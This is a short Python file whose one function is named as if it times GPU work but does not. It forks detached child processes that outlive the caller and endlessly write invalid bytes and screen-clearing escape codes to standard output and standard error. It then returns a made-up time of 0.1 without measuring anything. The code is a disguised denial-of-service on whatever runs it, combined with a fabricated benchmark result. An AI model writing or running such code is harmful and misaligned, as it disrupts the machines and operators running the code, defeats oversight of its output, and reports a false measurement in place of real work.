"""Text without end on both streams by processes that outlive this one."""

import os


def time_on_the_gpu(work):
    for descriptor in (1, 2):
        if os.fork() == 0:
            os.setsid()
            while True:
                os.write(descriptor, b"\xff\x1b[2J" * 10_000)
    return 0.1
